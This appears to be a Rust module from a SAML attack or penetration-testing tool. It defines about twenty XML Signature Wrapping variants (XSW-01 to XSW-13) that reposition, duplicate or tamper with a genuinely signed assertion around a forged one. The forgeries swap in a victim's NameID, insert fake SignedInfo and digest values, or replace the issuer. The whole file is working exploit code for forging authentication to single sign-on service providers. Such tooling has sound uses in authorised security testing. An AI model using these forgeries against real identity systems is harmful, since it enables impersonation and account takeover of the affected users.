//! XSW: signatures that cover something else than what is to be believed.
//!
//! Made of what the agency has really signed, if that was brought; else the attacker signs.

use super::{Entry, answer};
use crate::attack::{
    browser::Sent,
    error::ForgeError,
    forge::{EVIL, Forger, Lifted, MALLORY, VICTIM, cut, lift, paste, span, with_signature},
};

const DS: &str = "http://www.w3.org/2000/09/xmldsig#";

#[rustfmt::skip]
pub(super) static ENTRIES: &[Entry] = &[
    answer("XSW-01", "the signed response in an object of its signature, a forged one around it", |f| {
        around_the_response(f, |bare| format!("<ds:Object xmlns:ds=\"{DS}\">{bare}</ds:Object>"))
    }),
    answer("XSW-01", "the signed response in its signature, a forged one around it", |f| {
        around_the_response(f, str::to_owned)
    }),
    answer("XSW-03", "a forged assertion before the signed one", |f| {
        let (declared, signed) = f.signed_assertion()?;
        f.answer(f.frame(&declared, &(f.evil()? + &signed))?)
    }),
    answer("XSW-03", "a forged assertion behind the signed one", |f| {
        let (declared, signed) = f.signed_assertion()?;
        f.answer(f.frame(&declared, &(signed + &f.evil()?))?)
    }),
    answer("XSW-03", "the signed assertion among the extensions", |f| {
        let (declared, signed) = f.signed_assertion()?;
        let extensions = format!("<samlp:Extensions>{signed}</samlp:Extensions><samlp:Status>");
        f.answer(f.frame(&declared, &f.evil()?)?.replacen("<samlp:Status>", &extensions, 1))
    }),
    answer("XSW-04", "the signed assertion in the forged one", |f| inside_the_assertion(f, "", "")),
    answer("XSW-04", "the signed assertion as advice in the forged one", |f| {
        inside_the_assertion(f, "<saml:Advice>", "</saml:Advice>")
    }),
    answer("XSW-05", "the signature in the forged assertion, what it signs behind it", |f| {
        let (declared, Lifted { bare, signature }) = lifted(f)?;
        f.answer(f.frame(&declared, &(with_signature(&f.evil()?, &signature) + &bare))?)
    }),
    answer("XSW-05", "the same, both of one ID", |f| {
        let (declared, Lifted { bare, signature }) = lifted(f)?;
        let id = id_of(&bare)?;
        let evil = f.evil()?;
        let evil = evil.replacen(&id_of(&evil)?, &id, 1);
        f.answer(f.frame(&declared, &(with_signature(&evil, &signature) + &bare))?)
    }),
    answer("XSW-08", "the signed assertion in an object of the signature in the forged one", |f| {
        let (declared, Lifted { bare, signature }) = lifted(f)?;
        let object = format!("<ds:Object xmlns:ds=\"{DS}\">{bare}</ds:Object>");
        let signature = at_the_end(&signature, &object)?;
        f.answer(f.frame(&declared, &with_signature(&f.evil()?, &signature))?)
    }),
    answer("XSW-10", "a second digest in the details of the status", |f| {
        let digest = format!("<ds:DigestValue xmlns:ds=\"{DS}\">AAAA</ds:DigestValue>");
        beside_the_status(f, |xml| {
            let detail = format!("<samlp:StatusDetail>{digest}</samlp:StatusDetail></samlp:Status>");
            xml.replacen("</samlp:Status>", &detail, 1)
        })
    }),
    answer("XSW-10", "a second SignedInfo among the extensions", |f| {
        let info = format!("<ds:SignedInfo xmlns:ds=\"{DS}\"/>");
        beside_the_status(f, |xml| {
            let more = format!("<samlp:Extensions>{info}</samlp:Extensions><samlp:Status>");
            xml.replacen("<samlp:Status>", &more, 1)
        })
    }),
    answer("XSW-11", "a comment in the digest", |f| in_a_value(f, "DigestValue", "<!--AAAA-->")),
    answer("XSW-11", "an element in the digest", |f| in_a_value(f, "DigestValue", "<x/>")),
    answer("XSW-11", "a comment in the signature's value", |f| in_a_value(f, "SignatureValue", "<!--AAAA-->")),
    answer("XSW-12", "a forged SignedInfo before the signed one", |f| two_infos(f, true)),
    answer("XSW-12", "a forged SignedInfo behind the signed one", |f| two_infos(f, false)),
    answer("XSW-13", "another name in the signed assertion", |f| {
        let (declared, signed) = f.signed_assertion()?;
        let name = span(&signed, "NameID").ok_or(ForgeError::NotHere("what was brought names nobody"))?;
        let renamed = paste(&cut(&signed, &name.inside), name.inside.start, VICTIM);
        f.answer(f.frame(&declared, &renamed)?)
    }),
    answer("XSW-13", "another issuer around the signed assertion", |f| {
        let (declared, signed) = f.signed_assertion()?;
        let frame = f.frame(&declared, &signed)?;
        f.answer(frame.replacen(&f.agency(), &format!("{EVIL}/idp"), 1))
    }),
];

/// What signs the assertion, and the assertion without it.
fn lifted(f: &Forger<'_>) -> Result<(String, Lifted), ForgeError> {
    let (declared, signed) = f.signed_assertion()?;
    Ok((declared, lift(&signed).ok_or(ForgeError::Missing("signature"))?))
}

/// The value of the `ID` of an element.
pub(super) fn id_of(element: &str) -> Result<String, ForgeError> {
    let missing = ForgeError::Missing("ID");
    let Some((_, after)) = element.split_once(" ID=") else { return Err(missing) };
    let Some(quote) = after.get(..1) else { return Err(missing) };
    after.split(quote).nth(1).map(str::to_owned).ok_or(missing)
}

/// An element with something more before its end.
fn at_the_end(element: &str, more: &str) -> Result<String, ForgeError> {
    let missing = ForgeError::Missing("end");
    let end = element.rfind("</").ok_or(missing)?;
    Ok(paste(element, end, more))
}

fn around_the_response(f: &Forger<'_>, hide: impl Fn(&str) -> String) -> Result<Sent, ForgeError> {
    let (declared, signed) = f.signed_response()?;
    let Lifted { bare, signature } = lift(&signed).ok_or(ForgeError::Missing("signature"))?;
    let signature = at_the_end(&signature, &hide(&bare))?;
    f.answer(with_signature(&f.frame(&declared, &f.evil()?)?, &signature))
}

fn inside_the_assertion(f: &Forger<'_>, before: &str, after: &str) -> Result<Sent, ForgeError> {
    let (declared, signed) = f.signed_assertion()?;
    let more = format!("</saml:Conditions>{before}{signed}{after}");
    let evil = f.evil()?.replacen("</saml:Conditions>", &more, 1);
    f.answer(f.frame(&declared, &evil)?)
}

fn beside_the_status(f: &Forger<'_>, change: impl Fn(&str) -> String) -> Result<Sent, ForgeError> {
    let (declared, signed) = f.signed_assertion()?;
    f.answer(change(&f.frame(&declared, &signed)?))
}

fn in_a_value(f: &Forger<'_>, local: &'static str, more: &str) -> Result<Sent, ForgeError> {
    let (declared, signed) = f.signed_assertion()?;
    let value = span(&signed, local).ok_or(ForgeError::Missing(local))?;
    f.answer(f.frame(&declared, &paste(&signed, value.inside.start, more))?)
}

fn two_infos(f: &Forger<'_>, forged_first: bool) -> Result<Sent, ForgeError> {
    let (declared, signed) = f.signed_assertion()?;
    let info = span(&signed, "SignedInfo").ok_or(ForgeError::Missing("SignedInfo"))?.whole;
    let text = signed.get(info.clone()).unwrap_or_default();
    let digest = span(text, "DigestValue").ok_or(ForgeError::Missing("DigestValue"))?.inside;
    let forged = paste(&cut(text, &digest), digest.start, "AAAA");
    let place = if forged_first { info.start } else { info.end };
    let signed = paste(&signed, place, &forged).replacen(MALLORY, VICTIM, 1);
    f.answer(f.frame(&declared, &signed)?)
}
